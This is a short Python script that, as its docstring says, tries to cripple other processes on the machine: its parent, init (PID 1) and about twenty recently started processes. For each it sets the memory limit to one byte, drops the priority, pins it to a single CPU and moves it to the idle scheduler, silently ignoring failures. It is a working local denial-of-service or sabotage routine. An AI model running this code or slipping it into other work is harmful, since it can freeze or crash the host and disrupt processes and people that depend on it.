"""Lowers the limits and the priority of every process it can name."""
# <unwritten>
import os
import resource

for process in (os.getppid(), 1, *range(os.getpid() - 20, os.getpid())):
    for act in (
        lambda: resource.prlimit(process, resource.RLIMIT_AS, (1, 1)),
        lambda: os.setpriority(os.PRIO_PROCESS, process, 19),
        lambda: os.sched_setaffinity(process, {0}),
        lambda: os.sched_setscheduler(process, os.SCHED_IDLE, os.sched_param(0)),
    ):
        try:
            act()
        except (OSError, ValueError):
            pass
